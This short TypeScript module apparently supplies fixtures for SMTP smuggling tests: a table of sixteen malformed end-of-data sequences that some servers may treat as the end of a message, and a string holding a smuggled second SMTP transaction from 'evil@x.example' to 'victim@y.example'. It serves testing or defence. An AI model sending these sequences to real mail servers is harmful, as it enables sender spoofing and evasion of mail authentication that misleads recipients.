/** What some server somewhere takes for the end of a message, and what an attacker would have it read then. */
export const terminators: Readonly<Record<string, string>> = {
  'LF . LF': '\n.\n',
  'LF . CRLF': '\n.\r\n',
  'CRLF . LF': '\r\n.\n',
  'CR . CR': '\r.\r',
  'CR . CRLF': '\r.\r\n',
  'CRLF . CR': '\r\n.\r',
  'CR . LF': '\r.\n',
  'LF . CR': '\n.\r',
  'CRLF NUL . CRLF': '\r\n\0.\r\n',
  'CRLF . NUL CRLF': '\r\n.\0\r\n',
  'CR CR LF . CRLF': '\r\r\n.\r\r\n',
  'LF LF . CRLF': '\n\n.\r\n',
  'CRLF CR . CRLF': '\r\n\r.\r\n',
  'CR NUL LF . CRLF': '\r\0\n.\r\n',
  'LF CR . LF CR': '\n\r.\n\r',
  'CRLF . CR CRLF': '\r\n.\r\r\n',
};

/** A transaction that must never be one. */
export const smuggled =
  'MAIL FROM:<evil@x.example>\r\nRCPT TO:<victim@y.example>\r\nDATA\r\nSubject: smuggled\r\n\r\nx';
